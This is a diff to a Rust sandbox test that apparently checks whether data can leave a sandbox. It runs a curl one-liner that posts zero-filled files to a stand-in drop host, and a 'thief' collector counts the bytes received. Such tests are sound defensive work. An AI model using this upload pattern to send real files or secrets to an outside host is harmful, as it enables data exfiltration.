@@ -145,7 +145,7 @@ lab_tests! {
             .option("-p", &file.to_string_lossy())
             .pin("drop.example:8099=127.0.0.1:8099");
         // Small ones as many as there are, on one connection.
-        let small = "head -c 3000 /dev/zero >/tmp/s; curl -sS --data-binary @/tmp/s $URL/1 --next -sS --data-binary @/tmp/s $URL/2 --next -sS --data-binary @/tmp/s $URL/3";
+        let small = "head -c 3000 /dev/zero >$TMPDIR/s; curl -sS --data-binary @$TMPDIR/s $URL/1 --next -sS --data-binary @$TMPDIR/s $URL/2 --next -sS --data-binary @$TMPDIR/s $URL/3";
         let outcome = sandbox().run(&bash(small));
         assert_eq!(outcome.stdout, "arrived\narrived\narrived\n", "{outcome}");
         assert!(thief.take().len() > 9000);
